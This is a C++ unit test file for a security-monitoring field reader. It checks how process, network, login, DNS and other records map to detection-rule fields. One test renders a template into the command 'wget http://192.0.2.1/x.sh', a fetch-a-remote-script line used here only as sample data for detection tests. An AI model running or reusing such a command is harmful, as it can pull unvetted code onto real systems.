#include "pipeline_core/rules/field_reader.h"

#include <gmock/gmock.h>

#include <map>

#include "agent_core/base/random.h"
#include "tests/pipeline_core/rules/rule_text.h"
#include "tests/pipeline_core/support.h"

namespace picket {
namespace {

using namespace testing_support;
using ::testing::ElementsAre;
using ::testing::IsEmpty;

using Texts = std::map<std::string, std::string>;

/// Every field of an observation that has a value, by name.
Texts texts_of(const Observation& o, const TextTable& texts, const FieldTable& table = {}) {
  FieldReader reader(&table);
  reader.reset(o, texts);
  Texts out;
  for (std::size_t i = 0; i < table.size(); ++i) {
    const auto field = static_cast<Field>(i);
    if (reader.presence(field) == Presence::kValue) out[std::string(table.name(field))] = reader.text(field);
    EXPECT_EQ(reader.text(field).empty(), reader.presence(field) != Presence::kValue) << table.name(field);
  }
  return out;
}
/// The same without what every observation has.
Texts own_texts_of(const Observation& o, const TextTable& texts, const FieldTable& table = {}) {
  Texts out = texts_of(o, texts, table);
  EXPECT_EQ(out.erase("HitCount"), 1u);
  EXPECT_EQ(out.erase("EventTime"), 1u);
  return out;
}
std::vector<std::string> values_of(FieldReader& reader) {
  std::vector<std::string> out;
  for (std::size_t i = 0; i < reader.value_count(); ++i) out.emplace_back(reader.value(i));
  return out;
}

TEST(FieldReader, reads_every_kind_of_activity) {
  TextTable texts;
  ProcessRecord p{texts.intern("ls -la"), texts.intern("/bin/ls"), 12, 3, 0, ProcessOperation::kExec};
  EXPECT_EQ(own_texts_of(at(kStart, p), texts), (Texts{{"Image", "/bin/ls"}, {"CommandLine", "ls -la"}, {"User", "root"}, {"UserId", "0"},
                                                       {"ProcessId", "12"}, {"ParentProcessId", "3"}, {"Operation", "EXEC"}}));
  p.user_id = 1'000;
  p.operation = ProcessOperation::kFork;
  EXPECT_EQ(own_texts_of(at(kStart, p), texts)["User"], "1000");
  EXPECT_EQ(own_texts_of(at(kStart, p), texts)["Operation"], "FORK");

  Observation o = flow(kStart, "203.0.113.7", 443, 100);
  auto& n = std::get<NetworkRecord>(o.record);
  n.bytes_in = ~0ULL;
  n.user_id = 7;
  n.commandline = texts.intern("curl");
  const Texts outbound{{"CommandLine", "curl"}, {"User", "7"}, {"UserId", "7"}, {"SourceIp", "192.168.1.5"}, {"DestinationIp", "203.0.113.7"},
                       {"SourcePort", "40000"}, {"DestinationPort", "443"}, {"Protocol", "tcp"}, {"Initiated", "true"},
                       {"LocalIp", "192.168.1.5"}, {"RemoteIp", "203.0.113.7"}, {"LocalPort", "40000"}, {"RemotePort", "443"},
                       {"RemoteScope", "public"}, {"BytesIn", "18446744073709551615"}, {"BytesOut", "100"}};
  EXPECT_EQ(own_texts_of(o, texts), outbound);
  n.direction = Direction::kInbound;
  Texts inbound = outbound;
  std::swap(inbound["SourceIp"], inbound["DestinationIp"]);
  std::swap(inbound["SourcePort"], inbound["DestinationPort"]);
  inbound["Initiated"] = "false";
  EXPECT_EQ(own_texts_of(o, texts), inbound);

  LoginRecord l{texts.intern("eve"), texts.intern("sshd"), *IpAddress::parse("2001:db8::1"), 9, LoginOperation::kLoginFailed};
  EXPECT_EQ(own_texts_of(at(kStart, l), texts),
            (Texts{{"Image", "/sshd"}, {"User", "eve"}, {"ProcessId", "9"}, {"SourceIp", "2001:db8::1"}, {"RemoteIp", "2001:db8::1"},
                   {"RemoteScope", "public"}, {"LoginOperation", "LoginFailed"}}));
  l.remote_address = IpAddress();
  EXPECT_EQ(own_texts_of(at(kStart, l), texts), (Texts{{"Image", "/sshd"}, {"User", "eve"}, {"ProcessId", "9"}, {"LoginOperation", "LoginFailed"}}));

  EXPECT_EQ(own_texts_of(at(kStart, DnsRecord{texts.intern("a.example"), true}), texts), (Texts{{"QueryName", "a.example"}, {"QueryFailed", "true"}}));
  EXPECT_EQ(own_texts_of(at(kStart, FileRecord{texts.intern("/etc/x"), FileOperation::kMetadataChanged}), texts),
            (Texts{{"TargetFilename", "/etc/x"}, {"FileOperation", "MetadataChanged"}}));
  EXPECT_EQ(own_texts_of(at(kStart, PeripheralRecord{texts.intern("eth1"), false, false}), texts),
            (Texts{{"PeripheralName", "eth1"}, {"Connected", "false"}, {"PeripheralType", "ethernet"}}));
  EXPECT_EQ(texts_of(at(kStart, DnsRecord{texts.intern("a.example"), true}, 41), texts),
            (Texts{{"QueryName", "a.example"}, {"QueryFailed", "true"}, {"HitCount", "41"}, {"EventTime", "2027-01-15T08:00:00Z"}}));
}

/// The image of a process: its path, its name behind a slash, or what its command line begins with.
TEST(FieldReader, reads_image_names_with_and_without_a_path) {
  TextTable texts;
  const auto image = [&](std::string_view command, std::string_view executable) {
    return texts_of(exec(texts, kStart, command, executable), texts)["Image"];
  };
  EXPECT_EQ(image("x", "/usr/bin/nohup"), "/usr/bin/nohup");
  EXPECT_EQ(image("x", "nohup"), "/nohup");
  EXPECT_EQ(image("nohup ./a", ""), "/nohup");
  EXPECT_EQ(image("/bin/nohup ./a", ""), "/bin/nohup");
  EXPECT_EQ(image("nohup", ""), "/nohup");
  EXPECT_EQ(image("", ""), "");
}

TEST(FieldReader, renders_templates) {
  TextTable texts;
  Text command = texts.intern_template("wget http://{ipv4}/x.sh");
  command.parameter = 0xc0000201;
  const Observation o = at(kStart, ProcessRecord{command, {}, 1, 1, 0, ProcessOperation::kExec});
  EXPECT_EQ(texts_of(o, texts)["CommandLine"], "wget http://192.0.2.1/x.sh");
  EXPECT_EQ(texts_of(o, texts)["Image"], "/wget");
}

TEST(FieldReader, reads_reports_by_the_names_of_their_records) {
  TextTable texts;
  FieldTable table;
  for (std::size_t kind = kActivityKinds; kind < kEventKinds; ++kind) {
    for (const std::string_view name : report_fields(static_cast<EventKind>(kind))) table.intern(name);
  }
  ListeningPortRecord port;
  port.local_address = *IpAddress::parse("::");
  port.local_port = 23;
  port.process_id = 5;
  EXPECT_EQ(own_texts_of(at(kStart, port), texts, table), (Texts{{"LocalAddress", "::"}, {"LocalPort", "23"}, {"Protocol", "tcp"}, {"Pid", "5"}}));
  LocalUserRecord user{texts.intern("eve"), texts.intern("users;sudo"), {}, 1'001};
  EXPECT_EQ(own_texts_of(at(kStart, user), texts, table), (Texts{{"UserName", "eve"}, {"GroupNames", "users;sudo"}, {"UserId", "1001"}}));
  FieldReader reader(&table);
  const Observation o = at(kStart, port);
  reader.reset(o, texts);
  EXPECT_EQ(reader.number(Field::kLocalPort), 23);
  EXPECT_EQ(reader.presence(*table.find("GroupIds")), Presence::kMissing);
  const Observation of_user = at(kStart, user);
  reader.reset(of_user, texts);
  EXPECT_EQ(reader.presence(*table.find("GroupIds")), Presence::kBlank);
  EXPECT_THAT(values_of(reader), ::testing::UnorderedElementsAre("eve", "users;sudo", "1001"));
}

TEST(FieldReader, reads_numbers_and_addresses) {
  TextTable texts;
  FieldReader reader;
  const Observation o = flow(kStart, "203.0.113.7", 443);
  reader.reset(o, texts);
  EXPECT_EQ(reader.number(Field::kDestinationPort), 443);
  EXPECT_EQ(reader.number(Field::kHitCount), 1);
  EXPECT_FALSE(reader.number(Field::kProtocol));
  EXPECT_FALSE(reader.number(Field::kProcessId)) << "flows have none";
  EXPECT_EQ(reader.address(Field::kDestinationIp), IpAddress::parse("203.0.113.7"));
  EXPECT_FALSE(reader.address(Field::kDestinationPort));
  const FlatEvent event = json(R"({"DestinationPort": 443.5, "SourcePort": "443", "SourceIp": "2001:DB8::1", "User": "x", "Image": null})");
  reader.reset(event);
  EXPECT_EQ(reader.number(Field::kDestinationPort), 443.5);
  EXPECT_FALSE(reader.number(Field::kSourcePort)) << "a text";
  EXPECT_EQ(reader.address(Field::kSourceIp), IpAddress::parse("2001:db8::1"));
  EXPECT_FALSE(reader.address(Field::kUser));
  EXPECT_FALSE(reader.address(Field::kImage));
  EXPECT_FALSE(reader.address(Field::kDestinationIp));
}

TEST(FieldReader, lowers_the_letters_of_ascii_and_no_other_byte) {
  std::string all;
  std::string expected;
  for (int byte = 1; byte < 256; ++byte) {
    all += static_cast<char>(byte);
    expected += static_cast<char>(std::tolower(byte));  // in locale "C"
  }
  TextTable texts;
  FieldReader reader;
  for (const std::string& text : {all, all.substr(60, 10), std::string("A")}) {
    const Observation o = exec(texts, kStart, text);
    reader.reset(o, texts);
    EXPECT_EQ(reader.folded(Field::kCommandLine), expected.substr(all.find(text[0]), text.size()));
    EXPECT_EQ(reader.text(Field::kCommandLine), text) << "the text stays";
  }
}

TEST(FieldReader, reads_generic_events) {
  FieldTable table;
  const Field own = *table.intern("own");
  FieldReader reader(&table);
  const FlatEvent event = json(R"({"own": "A", "User": null, "Image": "", "n": 5, "t": true, "EventTime": "now", "HitCount": 9})");
  reader.reset(event);
  EXPECT_EQ(reader.presence(own), Presence::kValue);
  EXPECT_EQ(reader.text(own), "A");
  EXPECT_EQ(reader.folded(own), "a");
  EXPECT_EQ(reader.presence(Field::kUser), Presence::kNull);
  EXPECT_EQ(reader.presence(Field::kImage), Presence::kValue) << "an empty text is a value";
  EXPECT_EQ(reader.presence(Field::kCommandLine), Presence::kMissing);
  EXPECT_EQ(reader.text(Field::kCommandLine), "");
  // Named ones first, then those that no rule names; no times and counts.
  EXPECT_THAT(values_of(reader), ElementsAre("A", "", "5", "true"));
  EXPECT_EQ(reader.folded_value(3), "true");
}

// One field under two names, Sigma's and that of the Elastic Common Schema.
TEST(FieldReader, a_second_name_of_a_field_takes_nothing_from_the_first) {
  FieldReader reader;
  const FlatEvent twice = json(R"({"User": "alice", "user.name": "bob", "x": 1})");
  reader.reset(twice);
  EXPECT_EQ(reader.text(Field::kUser), "alice");
  EXPECT_THAT(values_of(reader), ElementsAre("alice", "bob", "1"));
  const FlatEvent null_last = json(R"({"QueryName": "evil", "query": null})");
  reader.reset(null_last);
  EXPECT_EQ(reader.text(Field::kQueryName), "evil");
  EXPECT_THAT(values_of(reader), ElementsAre("evil"));
  const FlatEvent null_first = json(R"({"query": null, "QueryName": "evil"})");
  reader.reset(null_first);
  EXPECT_EQ(reader.text(Field::kQueryName), "evil");
  EXPECT_THAT(values_of(reader), ElementsAre("evil"));
}

/// One reader for many events gives what a reader of its own gives, whatever came before and in whichever order it is asked.
TEST(FieldReader, keeps_nothing_of_the_event_before) {
  TextTable texts;
  FieldTable table;
  for (const char* name : {"own", "UserName", "LocalAddress", "Pid"}) table.intern(name);
  RandomStream random(1, 0, 0, Purpose::kTest);
  const auto any_text = [&] { return random.below(3) == 0 ? std::string() : std::string(random.below(40), static_cast<char>('A' + random.below(3))); };
  FieldReader reused(&table);
  for (int i = 0; i < 3'000; ++i) {
    FieldReader fresh(&table);
    Observation o;
    FlatEvent event;
    if (random.below(2) == 0) {
      o = exec(texts, kStart, any_text(), any_text());
      if (random.below(3) == 0) o = flow(kStart, "203.0.113.7", static_cast<std::uint16_t>(random.below(3)));
      if (random.below(4) == 0) o.record = default_record(static_cast<EventKind>(random.below(kEventKinds)));
      reused.reset(o, texts);
      fresh.reset(o, texts);
    } else {
      for (const char* name : {"own", "User", "user.name", "x", "y", "ProcessId"}) {
        if (random.below(2) == 0) event.set(name, random.below(4) == 0 ? FieldValue::null() : FieldValue::text(any_text()));
      }
      reused.reset(event);
      fresh.reset(event);
    }
    for (int asked = 0; asked < 12; ++asked) {
      const auto field = static_cast<Field>(random.below(table.size()));
      switch (random.below(5)) {
        case 0:
          ASSERT_EQ(reused.presence(field), fresh.presence(field)) << i;
          break;
        case 1:
          ASSERT_EQ(reused.text(field), fresh.text(field)) << i;
          break;
        case 2:
          ASSERT_EQ(reused.folded(field), fresh.folded(field)) << i;
          break;
        case 3:
          ASSERT_EQ(reused.number(field), fresh.number(field)) << i;
          break;
        default:
          ASSERT_EQ(reused.address(field), fresh.address(field)) << i;
      }
    }
    ASSERT_EQ(values_of(reused), values_of(fresh)) << i;
  }
}

TEST(FieldReader, has_no_values_before_the_first_event) {
  FieldReader reader;
  EXPECT_THAT(values_of(reader), IsEmpty());
  EXPECT_EQ(reader.presence(Field::kImage), Presence::kMissing);
}

}  // namespace
}  // namespace picket
